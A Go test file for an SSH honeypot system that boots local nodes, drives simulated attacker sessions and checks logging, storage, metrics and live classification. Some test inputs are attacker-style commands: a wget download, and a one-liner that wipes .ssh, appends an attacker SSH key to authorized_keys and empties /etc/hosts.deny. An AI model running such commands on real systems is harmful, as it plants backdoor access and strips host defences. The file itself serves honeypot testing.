package honeynet

import (
	"bufio"
	"bytes"
	"encoding/json"
	"errors"
	"io"
	"maps"
	"net/http"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"honeynet/internal/session"
	"honeynet/internal/sshclient"
)

// syncBuffer is a bytes.Buffer safe for the session goroutines that
// write it and the test that reads it.
type syncBuffer struct {
	mu  sync.Mutex
	buf bytes.Buffer
}

func (b *syncBuffer) Write(p []byte) (int, error) {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.Write(p)
}

func (b *syncBuffer) String() string {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.buf.String()
}

// TestServeEndToEnd boots a full node — store, stream, admin endpoint —
// drives one SSH session through it, and verifies the scrape, the
// stream and the drained store all reflect that session.
func TestServeEndToEnd(t *testing.T) {
	storeDir := filepath.Join(t.TempDir(), "store")
	var stream syncBuffer
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		TelnetAddr:   "127.0.0.1:0",
		AdminAddr:    "127.0.0.1:0",
		StorePath:    storeDir,
		LogOutput:    &stream,
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	if !strings.Contains(srv.AdminAddr(), ":") {
		t.Fatalf("admin addr = %q", srv.AdminAddr())
	}
	if body := adminGet(t, srv, "/healthz"); body != "ok\n" {
		t.Errorf("healthz = %q", body)
	}

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("wget http://198.51.100.7/x; uname"); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	// The record is sunk at session teardown, which races the client's
	// close; the stream write is the sink's last step, so poll for it.
	deadline := time.Now().Add(5 * time.Second)
	for !strings.HasSuffix(stream.String(), "\n") && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}

	metrics := adminGet(t, srv, "/metrics")
	for _, line := range []string{
		`honeynet_node_connections_total{proto="ssh"} 1`,
		`honeynet_node_auth_total{result="ok"} 1`,
		"honeynet_node_commands_total 1",
		"honeynet_node_downloads_total 1",
		"honeynet_node_sink_errors_total 0",
		"honeynet_store_records 1",
		"honeynet_guard_active_connections 0",
		`honeynet_guard_shed_total{reason="per_ip"} 0`,
		"honeynet_session_duration_seconds_count 1",
	} {
		if !strings.Contains(metrics, line) {
			t.Errorf("metrics missing %q", line)
		}
	}
	if strings.Contains(metrics, "honeynet_sessionlog_") {
		t.Error("metrics carry a honeynet_sessionlog_* series; the store is the only durable log")
	}

	forced, err := srv.Drain("test")
	if err != nil {
		t.Fatalf("drain: %v (forced %d)", err, forced)
	}

	// The stream holds the record as one line and nothing else.
	streamed, err := session.ReadAll(strings.NewReader(stream.String()))
	if err != nil || len(streamed) != 1 {
		t.Fatalf("stream = %q (%v), want one record line", stream.String(), err)
	}

	// The record itself is loadable through the facade.
	p, err := Open(storeDir)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.World.Records) != 1 {
		t.Fatalf("stored records = %d, want 1", len(p.World.Records))
	}
	if got := p.World.Records[0]; got.ID != streamed[0].ID || got.ClientIP != streamed[0].ClientIP {
		t.Errorf("stored record %d/%s, streamed %d/%s", got.ID, got.ClientIP, streamed[0].ID, streamed[0].ClientIP)
	}
	if len(p.MissingJoins) == 0 {
		t.Error("loaded pipeline must flag missing join databases")
	}
}

// TestServeStreamsRecordBeforeDrain: with no store, a session's record
// reaches LogOutput as a complete line when the session ends — a reader
// of honeypotd's stdout sees it then, not when the node drains.
func TestServeStreamsRecordBeforeDrain(t *testing.T) {
	pr, pw := io.Pipe()
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		LogOutput:    pw,
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	defer pr.Close() // unblocks a sink still writing if the test fails

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("uname -a"); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	lines := make(chan string, 1)
	go func() {
		line, _ := bufio.NewReader(pr).ReadString('\n')
		lines <- line
	}()
	var line string
	select {
	case line = <-lines:
	case <-time.After(5 * time.Second):
		t.Fatal("no record on the stream 5s after the session ended")
	}
	recs, err := session.ReadAll(strings.NewReader(line))
	if err != nil || len(recs) != 1 || len(recs[0].Commands) != 1 {
		t.Fatalf("streamed line %q (%v), want the session's record", line, err)
	}
}

type brokenStream struct{}

func (brokenStream) Write([]byte) (int, error) { return 0, errors.New("broken pipe") }

// TestServeStreamFailureKeepsDurableRecord: a stream that fails every
// write (a closed stdout pipe) is counted as a sink error, but the
// record still reaches the store, OnRecord and the live pipeline.
func TestServeStreamFailureKeepsDurableRecord(t *testing.T) {
	storeDir := filepath.Join(t.TempDir(), "store")
	var observed atomic.Int64
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		LogOutput:    brokenStream{},
		StorePath:    storeDir,
		OnRecord:     func(*Record) { observed.Add(1) },
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("uname -a"); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	sinkErrors := func() float64 { return srv.Registry().Snapshot()["honeynet_node_sink_errors_total"] }
	deadline := time.Now().Add(5 * time.Second)
	for sinkErrors() == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	if got := sinkErrors(); got != 1 {
		t.Fatalf("honeynet_node_sink_errors_total = %v, want 1", got)
	}
	if observed.Load() != 1 || srv.Live().Snapshot().Sessions != 1 {
		t.Errorf("OnRecord saw %d records, live %d; want 1 each", observed.Load(), srv.Live().Snapshot().Sessions)
	}
	if _, err := srv.Drain("test"); err != nil {
		t.Fatalf("drain: %v", err)
	}
	p, err := Open(storeDir)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.World.Records) != 1 {
		t.Fatalf("store holds %d records, want the 1 the stream failed on", len(p.World.Records))
	}
}

func adminGet(t *testing.T, srv interface{ AdminAddr() string }, path string) string {
	t.Helper()
	resp, err := http.Get("http://" + srv.AdminAddr() + path)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return string(b)
}

// TestWithObserverRecordsPhases: an attached tracer sees the simulate
// phases without changing the dataset.
func TestWithObserverRecordsPhases(t *testing.T) {
	tr := NewTracer()
	p, err := Simulate(WithScale(200000), WithSeed(7), WithObserver(tr))
	if err != nil {
		t.Fatal(err)
	}
	if len(p.World.Records) == 0 {
		t.Fatal("empty simulation")
	}
	names := map[string]bool{}
	for _, ph := range tr.Phases() {
		names[ph.Name] = true
	}
	if !names["simulate"] || !names["simulate.replay"] {
		t.Errorf("phases = %v", names)
	}
}

// TestServeStoreEndToEnd boots a store-only node (no stream),
// drives one SSH session, and verifies the record is queryable through
// the store after drain and that the store's metrics are scraped.
func TestServeStoreEndToEnd(t *testing.T) {
	storeDir := filepath.Join(t.TempDir(), "store")
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		AdminAddr:    "127.0.0.1:0",
		StorePath:    storeDir,
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cli.Exec("echo pwned > /tmp/x; uname"); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	// The record lands in the store at session teardown; poll for it.
	deadline := time.Now().Add(5 * time.Second)
	for srv.store.Len() == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}

	metrics := adminGet(t, srv, "/metrics")
	for _, line := range []string{
		"honeynet_store_records 1",
		"honeynet_store_appended_total 1",
		"honeynet_store_segments 0", // nothing sealed yet
	} {
		if !strings.Contains(metrics, line) {
			t.Errorf("metrics missing %q", line)
		}
	}

	// Drain seals the store: the partitions must be immediately
	// queryable through the facade.
	if _, err := srv.Drain("test"); err != nil {
		t.Fatalf("drain: %v", err)
	}
	p, err := Open(storeDir)
	if err != nil {
		t.Fatal(err)
	}
	if len(p.World.Records) != 1 {
		t.Fatalf("store pipeline holds %d records, want 1", len(p.World.Records))
	}
	r := p.World.Records[0]
	if r.Kind().String() != "command-execution" {
		t.Errorf("recorded session kind = %v", r.Kind())
	}
	if len(p.MissingJoins) == 0 {
		t.Error("store-loaded pipeline must flag missing join databases")
	}
}

// TestSimulateWithStoreThenOpen: WithStore persists a simulation and
// Open rebuilds a pipeline whose records match the original exactly.
func TestSimulateWithStoreThenOpen(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "store")
	p1, err := Simulate(WithScale(200000), WithSeed(7), WithStore(dir))
	if err != nil {
		t.Fatal(err)
	}
	p2, err := Open(dir, WithWorkers(3))
	if err != nil {
		t.Fatal(err)
	}
	a, b := p1.World.Records, p2.World.Records
	if len(a) != len(b) || len(a) == 0 {
		t.Fatalf("record counts differ: simulated=%d opened=%d", len(a), len(b))
	}
	for i := range a {
		if a[i].ID != b[i].ID || a[i].ClientIP != b[i].ClientIP || !a[i].Start.Equal(b[i].Start) {
			t.Fatalf("record %d differs after store round trip", i)
		}
	}
}

// TestServeLivePipeline drives a classifiable session through a full
// node and checks the streaming analytics pipeline surfaces it on
// /live and /metrics.
func TestServeLivePipeline(t *testing.T) {
	srv, err := Serve(ServeConfig{
		SSHAddr:      "127.0.0.1:0",
		AdminAddr:    "127.0.0.1:0",
		LogOutput:    io.Discard,
		StorePath:    t.TempDir(),
		Timeout:      10 * time.Second,
		DrainTimeout: 5 * time.Second,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer srv.Close()
	if srv.Live() == nil {
		t.Fatal("live pipeline should be on by default")
	}

	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin123"})
	if err != nil {
		t.Fatal(err)
	}
	cmd := `cd ~ && rm -rf .ssh && echo "ssh-rsa AAA mdrfckr">>.ssh/authorized_keys; echo > /etc/hosts.deny`
	if _, err := cli.Exec(cmd); err != nil {
		t.Fatal(err)
	}
	cli.Close()

	// Observe runs at session teardown, racing the client close; poll.
	deadline := time.Now().Add(5 * time.Second)
	for srv.Live().Snapshot().Classified == 0 && time.Now().Before(deadline) {
		time.Sleep(10 * time.Millisecond)
	}
	snap := srv.Live().Snapshot()
	if snap.Sessions == 0 || snap.Classified != 1 {
		t.Fatalf("live snapshot sessions=%d classified=%d", snap.Sessions, snap.Classified)
	}
	if len(snap.Categories) != 1 || snap.Categories[0].Name == "unknown" {
		t.Fatalf("live categories = %+v", snap.Categories)
	}

	// /live serves the same snapshot as JSON.
	var doc LiveSnapshot
	if err := json.Unmarshal([]byte(adminGet(t, srv, "/live")), &doc); err != nil {
		t.Fatalf("bad /live JSON: %v", err)
	}
	if doc.Classified != 1 {
		t.Fatalf("/live classified = %d", doc.Classified)
	}

	metrics := adminGet(t, srv, "/metrics")
	for _, line := range []string{
		"honeynet_live_sessions_total",
		"honeynet_live_classified_total 1",
		"honeynet_live_rules_skipped_total",
		"honeynet_store_blocks_read_total",
	} {
		if !strings.Contains(metrics, line) {
			t.Errorf("metrics missing %q", line)
		}
	}
	// Neither the batch pipeline nor a query ever runs in the daemon:
	// none of their work counters belong on this endpoint.
	for _, prefix := range []string{"honeynet_analysis_", "honeynet_classify_", "honeynet_query_", "honeynet_store_bloom_"} {
		if strings.Contains(metrics, prefix) {
			t.Errorf("metrics carry a %s* series", prefix)
		}
	}
}

// liveSeries is every honeynet_live_* name a daemon's /metrics carries:
// the session count and the classifier's counters, each checked against
// a batch recount in internal/live.
var liveSeries = []string{
	"honeynet_live_classified_total",
	"honeynet_live_rule_candidates_total",
	"honeynet_live_rules_skipped_total",
	"honeynet_live_sessions_total",
	"honeynet_live_unknown_total",
}

// liveNames returns the sorted honeynet_live_* series names declared in
// a /metrics exposition.
func liveNames(metrics string) []string {
	var names []string
	for _, line := range strings.Split(metrics, "\n") {
		if f := strings.Fields(line); len(f) == 4 && f[1] == "TYPE" && strings.HasPrefix(f[2], "honeynet_live_") {
			names = append(names, f[2])
		}
	}
	slices.Sort(names)
	return names
}

// TestDaemonLive: Serve and Collect build their live pipeline the same
// way. Off, there is no pipeline and no /live route; on, /metrics
// carries exactly the live series (and, on the collector, the fleet
// series) and /live serves the snapshot as JSON.
func TestDaemonLive(t *testing.T) {
	type daemon interface {
		AdminAddr() string
		Live() *LivePipeline
		Close() error
	}
	for _, tc := range []struct {
		name   string
		start  func(liveOff bool) (daemon, error)
		series []string
	}{
		{"serve", func(liveOff bool) (daemon, error) {
			return Serve(ServeConfig{SSHAddr: "127.0.0.1:0", AdminAddr: "127.0.0.1:0", LogOutput: io.Discard, LiveOff: liveOff})
		}, nil},
		{"collect", func(liveOff bool) (daemon, error) {
			return Collect(CollectConfig{Dir: t.TempDir(), ListenAddr: "127.0.0.1:0", AdminAddr: "127.0.0.1:0", LiveOff: liveOff})
		}, []string{"honeynet_fleet_nodes"}},
	} {
		t.Run(tc.name+"/off", func(t *testing.T) {
			d, err := tc.start(true)
			if err != nil {
				t.Fatal(err)
			}
			defer d.Close()
			if d.Live() != nil {
				t.Fatal("LiveOff must disable the pipeline")
			}
			resp, err := http.Get("http://" + d.AdminAddr() + "/live")
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != http.StatusNotFound {
				t.Fatalf("/live with LiveOff = %d, want 404", resp.StatusCode)
			}
		})
		t.Run(tc.name+"/on", func(t *testing.T) {
			d, err := tc.start(false)
			if err != nil {
				t.Fatal(err)
			}
			defer d.Close()
			if d.Live() == nil {
				t.Fatal("the live pipeline should be on by default")
			}
			metrics := adminGet(t, d, "/metrics")
			for _, name := range tc.series {
				if !strings.Contains(metrics, name) {
					t.Errorf("metrics missing %q", name)
				}
			}
			if got := liveNames(metrics); !slices.Equal(got, liveSeries) {
				t.Errorf("honeynet_live_* series = %q, want %q", got, liveSeries)
			}
			var doc map[string]json.RawMessage
			if err := json.Unmarshal([]byte(adminGet(t, d, "/live")), &doc); err != nil {
				t.Fatalf("bad /live JSON: %v", err)
			}
			keys := slices.Sorted(maps.Keys(doc))
			if want := []string{"categories", "classified", "sessions", "unknown", "uptime"}; !slices.Equal(keys, want) {
				t.Errorf("/live keys = %q, want %q", keys, want)
			}
		})
	}
}
